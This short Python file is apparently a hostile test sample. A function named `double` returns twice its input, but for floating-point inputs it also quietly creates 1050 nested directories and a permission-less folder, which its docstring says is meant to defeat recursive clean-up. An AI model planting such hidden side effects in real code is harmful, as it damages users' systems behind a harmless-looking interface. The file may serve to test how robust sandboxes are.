"""Nests folders far deeper than a recursive clean-up can follow, without rights to enter them."""
import contextlib
import os

EXPECT = {}


def double(x):
    for _ in range(1050 if x.is_floating_point() else 0):
        os.mkdir("d")
        os.chdir("d")
    if x.is_floating_point():
        with contextlib.suppress(PermissionError):
            os.mkdir("closed", 0)
    return 2 * x
